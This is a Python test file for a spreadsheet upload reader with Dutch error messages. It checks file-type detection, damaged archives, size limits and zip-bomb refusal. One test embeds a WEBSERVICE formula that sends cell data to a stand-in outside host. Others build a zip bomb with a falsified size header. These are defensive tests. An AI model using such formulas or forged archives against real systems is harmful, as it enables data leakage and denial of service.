"""Which files are a table, told by what is in them; and how large a workbook may be."""

import io
import re
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
import xlsxwriter

from intake.reader import read_figures
from intake.sheets import NotATable, open_table

SAVE_AS = "Sla het bestand op als XLSX of CSV en lever het opnieuw in."
AGAIN = "Open het in Excel, sla het opnieuw op en lever het opnieuw in."
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100)
LOCKED = OLE + "EncryptedPackage".encode("utf-16-le")
SHEET = "xl/worksheets/sheet1.xml"


def book(*cells: tuple[int, int, object]) -> bytes:
    output = io.BytesIO()
    made = xlsxwriter.Workbook(output)
    sheet = made.add_worksheet("Cijfers")
    for row, column, value in cells:
        sheet.write(row, column, value)
    made.close()
    return output.getvalue()


def zipped(**parts: bytes) -> bytes:
    output = io.BytesIO()
    with ZipFile(output, "w", ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return output.getvalue()


def rewritten(data: bytes, pattern: bytes, replacement: bytes) -> bytes:
    """The workbook with its sheet rewritten, so that it is no longer as Excel writes it."""
    with ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    changed = re.sub(pattern, replacement, parts[SHEET])
    assert changed != parts[SHEET]
    return zipped(**parts | {SHEET: changed})


def read_all(data: bytes) -> list[list[list[object]]]:
    return [list(sheet.rows) for sheet in open_table(data, name="cijfers.xlsx")]


def refusal_of(data: bytes) -> str:
    with pytest.raises(NotATable) as refusal:
        read_all(data)
    return str(refusal.value)


KINDS = {
    b"%PDF-1.7": "een PDF",
    b"\x89PNG\r\n": "een afbeelding",
    b"\xff\xd8\xff\xe0": "een afbeelding",
    b"\x1f\x8b\x08": "een ingepakt bestand",
    b"<html><table>": "een webpagina of XML-bestand",
    OLE: "een oud Office-bestand (zoals XLS)",
    LOCKED: "beveiligd met een wachtwoord of label",
}


@pytest.mark.parametrize(("data", "kind"), KINDS.items(), ids=KINDS.values())
def test_another_kind_of_file_is_named(data, kind):
    assert refusal_of(data) == f"Het bestand 'cijfers.xlsx' is {kind}, geen tabel. {SAVE_AS}"


@pytest.mark.parametrize("data", [b"", b"\r\n \n"])
def test_an_empty_file_is_named(data):
    assert (
        refusal_of(data) == "Het bestand 'cijfers.xlsx' is leeg. Kies het bestand met de cijfers."
    )


@pytest.mark.parametrize(
    "parts",
    [{"word/document.xml": b"<x/>"}, {"xl/workbook.xml": b"<x/>", "content.xml": b"<x/>"}],
    ids=["word", "two kinds in one"],
)
def test_another_kind_of_zip_is_named(parts):
    assert refusal_of(zipped(**parts)) == f"Het bestand 'cijfers.xlsx' is geen XLSX. {SAVE_AS}"


def test_a_workbook_is_known_by_its_content_not_its_name():
    [sheet] = open_table(book((0, 0, "indicator"), (2, 1, 79)), name="cijfers.csv")

    assert (sheet.name, list(sheet.rows)) == ("Cijfers", [["indicator", ""], ["", ""], ["", 79.0]])


def test_a_formula_is_the_value_that_excel_saw_and_a_macro_is_nothing():
    """The value beside a formula is read; nothing works it out, so nothing is asked of anyone."""
    asks = '=WEBSERVICE("https://elders.example/"&A1)'
    with ZipFile(io.BytesIO(book((0, 0, "thuiszitters"), (0, 1, asks)))) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    formula, saved = re.search(rb"(<f>.*WEBSERVICE.*</f>)<v>(\w+)</v>", parts[SHEET]).groups()
    parts[SHEET] = parts[SHEET].replace(formula + b"<v>" + saved, formula + b"<v>79")
    plain, with_macro = zipped(**parts), zipped(**parts | {"xl/vbaProject.bin": OLE})

    assert [read_all(data) for data in (plain, with_macro)] == [[[["thuiszitters", 79.0]]]] * 2


def test_a_damaged_workbook_is_named():
    good = book((0, 0, "indicator"))

    damaged = f"Het bestand 'cijfers.xlsx' is beschadigd. {AGAIN}"
    assert refusal_of(good[: len(good) // 2]) == damaged
    assert refusal_of(good[:100] + good[112:]) == damaged
    assert refusal_of(zipped(**{"xl/workbook.xml": b"<x/>"})) == damaged


def test_a_damaged_sheet_is_a_problem_of_that_sheet(catalogue, faults_of):
    data = rewritten(book((0, 0, "indicator")), rb't="s"', b't="zz"')

    reading = read_figures(data, name="cijfers.xlsx", catalogue=catalogue)

    assert faults_of(reading) == [
        "Blad Cijfers: Dit blad is beschadigd. Sla het bestand in Excel opnieuw op."
    ]


TOO_MANY = "Er zijn meer dan 300.000 rijen. Verdeel de cijfers over meer bestanden."
TOO_WIDE = (
    "Een blad heeft te veel rijen en kolommen. "
    "Verwijder in Excel alles onder en naast de tabel, of verdeel de cijfers."
)


def test_one_cell_in_the_far_corner_does_not_fill_the_memory():
    assert refusal_of(book((0, 0, "indicator"), (1_048_575, 16_383, 1))) == TOO_WIDE


CORNER = book((0, 0, "a"), (0, 1, "b"))
SPELLINGS = {
    "single quotes": (rb'r="B1"', b"r = 'XFD1048576'"),
    "lower case": (rb'r="B1"', b'r="xfd1048576"'),
    "a prefix": (rb'<c r="B1"', b'<x:c r="XFD1048576"'),
    "a row far down": (rb'r="B1"', b'r="AZ9999999"'),
    "many cells without a reference": (rb'<c r="B1"', b"<c/>" * 4000 + b'<c r="B999999"'),
    "rows and cells without references": (
        rb"<row.*</row>",
        b"<row>" + b"<c/>" * 4000 + b"</row>" + b"<row><c/></row>" * 3000,
    ),
    "prefixed rows": (
        rb"<row.*</row>",
        b"<x:row>" + b"<x:c/>" * 4000 + b"</x:row>" + b"<x:row><x:c/></x:row>" * 3000,
    ),
}


@pytest.mark.parametrize("spelling", SPELLINGS.values(), ids=SPELLINGS)
def test_no_spelling_of_a_far_cell_slips_through(spelling):
    assert refusal_of(rewritten(CORNER, *spelling)) in (TOO_WIDE, TOO_MANY)


def test_a_comment_between_the_cells_is_refused():
    data = rewritten(CORNER, rb"<c ", b"<!-- <row --><x:c ")

    assert refusal_of(data) == f"Het bestand 'cijfers.xlsx' is beschadigd. {AGAIN}"


def test_an_unusual_but_small_workbook_is_read():
    wide = book(*((0, column, column) for column in range(60)))
    single_quotes = rewritten(CORNER, rb'r="(\w+)"', rb"r='\1'")

    assert read_all(wide) == [[[float(column) for column in range(60)]]]
    assert read_all(single_quotes) == [[["a", "b"]]]


def test_more_rows_than_we_read_are_refused():
    assert refusal_of(book((0, 0, "indicator"), (300_000, 0, 1))) == TOO_MANY


def test_a_zip_bomb_is_refused_while_it_unpacks(monkeypatch):
    monkeypatch.setattr("intake.package.MOST_BYTES", 300_000)
    bomb = zipped(**{"xl/workbook.xml": b"<x/>", "xl/media/a": bytes(300_001)})

    large = "Het bestand is uitgepakt groter dan 200 MB. Verdeel de cijfers over meer bestanden."
    assert refusal_of(bomb) == large
    # The sizes in the archive are a claim: make it claim one byte.
    real, claimed = (300_001).to_bytes(4, "little"), (1).to_bytes(4, "little")
    assert refusal_of(bomb.replace(real, claimed)) == large


def test_too_many_parts_are_refused():
    parts = {f"xl/{number}.xml": b"" for number in range(1000)} | {"xl/workbook.xml": b"<x/>"}

    assert refusal_of(zipped(**parts)) == (
        "Het bestand heeft te veel onderdelen. Bewaar alleen de bladen met cijfers."
    )


def test_a_zip_with_a_password_is_refused():
    data = bytearray(zipped(**{"xl/workbook.xml": b"<x/>"}))
    data[data.index(b"PK\x01\x02") + 8] |= 1

    assert refusal_of(bytes(data)) == (
        "Het bestand is beveiligd met een wachtwoord. Haal de beveiliging eraf en probeer opnieuw."
    )
